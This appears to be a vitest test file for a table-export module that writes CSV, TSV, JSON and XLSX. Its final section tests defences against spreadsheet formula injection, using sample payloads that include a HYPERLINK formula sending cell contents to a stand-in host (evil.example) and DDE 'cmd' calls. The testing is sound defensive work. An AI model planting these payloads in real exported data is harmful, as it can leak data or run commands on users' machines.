import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import type { ColumnDefinition } from './columns';
import type { ExtractedRow } from './extraction';
import {
  cellText,
  rowObjects,
  toCsv,
  toJson,
  toTsv,
  toXlsx,
  type ExportTable,
} from './table-export';

const columns: ColumnDefinition[] = [
  { name: 'name', type: 'text' },
  { name: 'price', type: 'number' },
  { name: 'sold', type: 'date' },
  { name: 'organic', type: 'boolean' },
];

const rows: ExtractedRow[] = [
  { name: 'Apple, "Gala"', price: 1.5, sold: '2026-02-01', organic: true },
  { name: 'Pear\tConference\nbox', price: -2, sold: null, organic: false },
  { name: 'Plum', price: null, sold: '2025-12-31' },
];

const table: ExportTable = { columns, rows };

async function readXlsx(bytes: Uint8Array): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  const copy = new Uint8Array(bytes);
  await workbook.xlsx.load(copy.buffer);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error('The workbook has no sheet.');
  return sheet;
}

describe('cellText', () => {
  it('shows null as empty and booleans and numbers as written', () => {
    expect([null, undefined, true, false, 0, -1.25, 'x'].map(cellText)).toEqual([
      '',
      '',
      'true',
      'false',
      '0',
      '-1.25',
      'x',
    ]);
  });
});

describe('toCsv', () => {
  it('writes a header row and CRLF lines, quoting only the fields that need it', () => {
    expect(toCsv(table, { bom: false })).toBe(
      'name,price,sold,organic\r\n' +
        '"Apple, ""Gala""",1.5,2026-02-01,true\r\n' +
        '"Pear\tConference\nbox",-2,,false\r\n' +
        'Plum,,2025-12-31,\r\n',
    );
  });

  it('quotes header names and carriage returns too', () => {
    const csv = toCsv(
      { columns: [{ name: 'a,b', type: 'text' }], rows: [{ 'a,b': 'one\rtwo' }] },
      { bom: false },
    );
    expect(csv).toBe('"a,b"\r\n"one\rtwo"\r\n');
  });

  it('writes only the header for no rows', () => {
    expect(toCsv({ columns, rows: [] }, { bom: false })).toBe('name,price,sold,organic\r\n');
  });

  it('starts with a UTF-8 byte order mark, so Excel reads accents right, unless asked not to', () => {
    const accented: ExportTable = {
      columns: [{ name: 'name', type: 'text' }],
      rows: [{ name: 'Müller' }],
    };
    const bytes = new TextEncoder().encode(toCsv(accented));
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)).toBe(
      '\uFEFFname\r\nMüller\r\n',
    );
    const plain = new TextEncoder().encode(toCsv(accented, { bom: false }));
    expect([...plain.slice(0, 4)]).toEqual([...new TextEncoder().encode('name')]);
  });

  it('writes each number column with the decimals it has in the source', () => {
    const amounts: ExportTable = {
      columns: [
        { name: 'item', type: 'text' },
        { name: 'amount', type: 'number' },
        { name: 'count', type: 'number' },
        { name: 'rate', type: 'number' },
      ],
      rows: [
        { item: 'a', amount: 12.5, count: 3, rate: 0.1 },
        { item: 'b', amount: 1234567, count: 10, rate: -0.0001 },
        { item: 'c', amount: -0.5, count: null, rate: 2 },
        // A correction with more decimals than the source keeps them.
        { item: 'd', amount: 7.125 },
      ],
      decimals: { amount: 2, count: 0, rate: 3 },
    };
    expect(toCsv(amounts, { bom: false }).trimEnd().split('\r\n')).toEqual([
      'item,amount,count,rate',
      'a,12.50,3,0.100',
      'b,1234567.00,10,-0.0001',
      'c,-0.50,,2.000',
      'd,7.125,,',
    ]);
  });

  it('writes numbers as they are where the source decimals are not known', () => {
    const old: ExportTable = {
      columns: [{ name: 'amount', type: 'number' }],
      rows: [{ amount: 12.5 }, { amount: 3 }],
    };
    expect(toCsv(old, { bom: false })).toBe('amount\r\n12.5\r\n3\r\n');
  });

  it('never writes a thousands separator or an exponent for large amounts', () => {
    const large: ExportTable = {
      columns: [{ name: 'amount', type: 'number' }],
      rows: [{ amount: 1234567.5 }, { amount: 98765432109 }],
      decimals: { amount: 2 },
    };
    expect(toCsv(large, { bom: false })).toBe('amount\r\n1234567.50\r\n98765432109.00\r\n');
  });
});

describe('toTsv', () => {
  it('replaces tabs and line breaks inside cells with spaces, so each value stays one cell', () => {
    expect(toTsv(table).split('\n')).toEqual([
      'name\tprice\tsold\torganic',
      'Apple, "Gala"\t1.5\t2026-02-01\ttrue',
      'Pear Conference box\t-2\t\tfalse',
      'Plum\t\t2025-12-31\t',
    ]);
  });

  it('collapses a CRLF inside a cell to one space', () => {
    expect(toTsv({ columns: [{ name: 'a', type: 'text' }], rows: [{ a: 'x\r\ny' }] })).toBe(
      'a\nx y',
    );
  });

  // Copy pasted 3.5 where the table and the CSV said 3.50 (the walk of issue 32).
  it('copies each number column with the decimals it has in the source, as the CSV has them', () => {
    const amounts: ExportTable = {
      columns: [
        { name: 'item', type: 'text' },
        { name: 'amount', type: 'number' },
      ],
      rows: [
        { item: 'Coffee', amount: 3.5 },
        { item: 'Train', amount: 24.1 },
        { item: 'Lunch', amount: null },
      ],
      decimals: { amount: 2 },
    };
    expect(toTsv(amounts).split('\n')).toEqual([
      'item\tamount',
      'Coffee\t3.50',
      'Train\t24.10',
      'Lunch\t',
    ]);
  });
});

describe('toJson', () => {
  it('writes every column key, null for blanks, numbers and booleans typed', () => {
    expect(JSON.parse(toJson(table))).toEqual([
      { name: 'Apple, "Gala"', price: 1.5, sold: '2026-02-01', organic: true },
      { name: 'Pear\tConference\nbox', price: -2, sold: null, organic: false },
      { name: 'Plum', price: null, sold: '2025-12-31', organic: null },
    ]);
  });

  it('keeps the column order in each object and leaves out keys that are not columns', () => {
    const json = toJson({ columns, rows: [{ extra: 'x', organic: true, name: 'A' }] });
    const [first] = JSON.parse(json) as object[];
    expect(Object.keys(first ?? {})).toEqual(['name', 'price', 'sold', 'organic']);
  });
});

describe('toXlsx', () => {
  it('writes a bold header and typed cells that read back as numbers, booleans and dates', async () => {
    const sheet = await readXlsx(await toXlsx(table));
    expect(sheet.getRow(1).values).toEqual([undefined, 'name', 'price', 'sold', 'organic']);
    expect(sheet.getCell('A1').font?.bold).toBe(true);
    expect(sheet.getCell('A2').value).toBe('Apple, "Gala"');
    expect(sheet.getCell('B2').value).toBe(1.5);
    expect(sheet.getCell('B3').value).toBe(-2);
    expect(sheet.getCell('C2').value).toEqual(new Date('2026-02-01T00:00:00Z'));
    expect(sheet.getCell('C2').numFmt).toBe('yyyy-mm-dd');
    expect(sheet.getCell('C4').value).toEqual(new Date('2025-12-31T00:00:00Z'));
    expect(sheet.getCell('D2').value).toBe(true);
    expect(sheet.getCell('D3').value).toBe(false);
  });

  it('leaves blank cells empty and keeps text in cells as text', async () => {
    const sheet = await readXlsx(await toXlsx(table));
    expect(sheet.getCell('C3').value).toBeNull();
    expect(sheet.getCell('B4').value).toBeNull();
    expect(sheet.getCell('D4').value).toBeNull();
    expect(sheet.getCell('A3').value).toBe('Pear\tConference\nbox');
    expect(sheet.rowCount).toBe(4);
  });

  it('gives each number column a number format with its source decimals, not General', async () => {
    const sheet = await readXlsx(
      await toXlsx({
        columns: [
          { name: 'amount', type: 'number' },
          { name: 'count', type: 'number' },
          { name: 'old', type: 'number' },
        ],
        rows: [
          { amount: 12.5, count: 3, old: 1.5 },
          { amount: 1200, count: 4, old: 2 },
          { amount: 7.125, count: 5 },
        ],
        decimals: { amount: 2, count: 0 },
      }),
    );
    expect(sheet.getCell('A2').value).toBe(12.5);
    expect(sheet.getCell('A2').numFmt).toBe('0.00');
    expect(sheet.getCell('A3').numFmt).toBe('0.00');
    expect(sheet.getCell('B2').value).toBe(3);
    expect(sheet.getCell('B2').numFmt).toBe('0');
    // A correction with more decimals shows them all.
    expect(sheet.getCell('A4').value).toBe(7.125);
    expect(sheet.getCell('A4').numFmt).toBe('0.000');
    // Without known source decimals the column stays as it was.
    expect(sheet.getCell('C2').numFmt).toBeUndefined();
  });

  it('writes a date column value that is not a date as text', async () => {
    const sheet = await readXlsx(
      await toXlsx({ columns: [{ name: 'when', type: 'date' }], rows: [{ when: 'soon' }] }),
    );
    expect(sheet.getCell('A2').value).toBe('soon');
  });
});

describe('cells a spreadsheet would run as a formula', () => {
  const risky: ExportTable = {
    columns: [
      { name: 'note', type: 'text' },
      { name: 'amount', type: 'number' },
    ],
    rows: [
      { note: '=HYPERLINK("https://evil.example?x="&A3,"Click")', amount: -12.5 },
      { note: "+cmd|' /C calc'!A0", amount: 3 },
      { note: "-2+3+cmd|' /C calc'!A0", amount: 0 },
      { note: "@SUM(1+1)*cmd|' /C calc'!A0", amount: null },
      { note: '\t=1+1', amount: null },
      { note: '\r=1+1', amount: null },
    ],
  };
  const neutralised = [
    '\'=HYPERLINK("https://evil.example?x="&A3,"Click")',
    "'+cmd|' /C calc'!A0",
    "'-2+3+cmd|' /C calc'!A0",
    "'@SUM(1+1)*cmd|' /C calc'!A0",
    "'\t=1+1",
    "'\r=1+1",
  ];
  /** Bank statements whose amounts are typed text: each is only a number, so stays as it is. */
  const plainNumbers: ExportTable = {
    columns: [{ name: 'amount', type: 'text' }],
    rows: ['-1883.70', '+12', '-1,234.5', '-1.234,56', '-.5', '-0'].map((amount) => ({ amount })),
  };

  it('prefixes risky text cells with an apostrophe in CSV, keeping numbers as numbers', () => {
    const lines = toCsv(risky).split('\r\n');
    expect(lines[1]).toBe('"\'=HYPERLINK(""https://evil.example?x=""&A3,""Click"")",-12.5');
    expect(lines[2]).toBe("'+cmd|' /C calc'!A0,3");
    expect(lines[3]).toBe("'-2+3+cmd|' /C calc'!A0,0");
    expect(lines[4]).toBe("'@SUM(1+1)*cmd|' /C calc'!A0,");
    // Split on its tab, the cell's second part would be a formula of its own.
    expect(lines[5]).toBe("'\t'=1+1,");
    expect(lines[6]).toBe('"\'\r=1+1",');
  });

  it('prefixes risky text cells in TSV (what Copy puts on the clipboard)', () => {
    const lines = toTsv(risky).split('\n');
    expect(lines.slice(1).map((line) => line.split('\t')[0])).toEqual([
      ...neutralised.slice(0, 4),
      "' '=1+1",
      "' =1+1",
    ]);
    expect(lines.slice(1).map((line) => line.split('\t')[1])).toEqual([
      '-12.5',
      '3',
      '0',
      '',
      '',
      '',
    ]);
  });

  it('prefixes risky text cells in XLSX and keeps number cells numbers', async () => {
    const sheet = await readXlsx(await toXlsx(risky));
    // XML reads a carriage return back as a line feed.
    for (const [index, text] of neutralised.entries())
      expect(sheet.getCell(`A${index + 2}`).value).toBe(text.replace('\r', '\n'));
    expect(sheet.getCell('B2').value).toBe(-12.5);
  });

  it('neutralises a header that looks like a formula too', async () => {
    const table = { columns: [{ name: '=1+1', type: 'text' as const }], rows: [] };
    expect(toCsv(table, { bom: false })).toBe("'=1+1\r\n");
    expect(toTsv(table)).toBe("'=1+1");
    expect((await readXlsx(await toXlsx(table))).getCell('A1').value).toBe("'=1+1");
  });

  it('leaves text that is only a signed number as it is, in every format', async () => {
    const amounts = plainNumbers.rows.map((row) => row.amount);
    expect(toTsv(plainNumbers).split('\n').slice(1)).toEqual(amounts);
    expect(toCsv(plainNumbers).split('\r\n').slice(1, -1)).toEqual([
      '-1883.70',
      '+12',
      '"-1,234.5"',
      '"-1.234,56"',
      '-.5',
      '-0',
    ]);
    const sheet = await readXlsx(await toXlsx(plainNumbers));
    expect(amounts.map((_, index) => sheet.getCell(`A${index + 2}`).value)).toEqual(amounts);
  });

  it('quotes CSV cells holding a semicolon, which locales with a decimal comma split on', () => {
    const csv = toCsv(
      {
        columns: [{ name: 'a;b', type: 'text' }],
        rows: [{ 'a;b': 'one;two' }, { 'a;b': 'plain' }],
      },
      { bom: false },
    );
    expect(csv).toBe('"a;b"\r\n"one;two"\r\nplain\r\n');
  });

  it('neutralises a formula after a separator inside a cell, in CSV and TSV', () => {
    const table: ExportTable = {
      columns: [{ name: 'note', type: 'text' }],
      rows: [
        { note: 'ok;=HYPERLINK("https://evil.example","Click")' },
        { note: "a, -2+3+cmd|' /C calc'!A0" },
        { note: 'tab\t@SUM(1+1)' },
        { note: 'x; +A1;y' },
        { note: '=1;=2' },
      ],
    };
    expect(toCsv(table).split('\r\n').slice(1, -1)).toEqual([
      '"ok;\'=HYPERLINK(""https://evil.example"",""Click"")"',
      "\"a, '-2+3+cmd|' /C calc'!A0\"",
      "tab\t'@SUM(1+1)",
      '"x; \'+A1;y"',
      '"\'=1;\'=2"',
    ]);
    expect(toTsv(table).split('\n').slice(1)).toEqual([
      'ok;\'=HYPERLINK("https://evil.example","Click")',
      "a, '-2+3+cmd|' /C calc'!A0",
      "tab '@SUM(1+1)",
      "x; '+A1;y",
      "'=1;'=2",
    ]);
  });

  it('leaves signed numbers after a separator as they are', () => {
    const table: ExportTable = {
      columns: [{ name: 'range', type: 'text' }],
      rows: [{ range: '5;+10' }, { range: '1,-2.5' }, { range: '-5; -10' }],
    };
    // A whole cell that starts with a sign and is not one number is still neutralised.
    expect(toTsv(table).split('\n').slice(1)).toEqual(['5;+10', '1,-2.5', "'-5; -10"]);
    expect(toCsv(table).split('\r\n').slice(1, -1)).toEqual(['"5;+10"', '"1,-2.5"', '"\'-5; -10"']);
  });

  it('keeps JSON exact, without apostrophes', () => {
    expect(JSON.parse(toJson(risky))).toEqual(rowObjects(risky));
    expect(toJson(risky)).not.toContain("'=");
  });
});
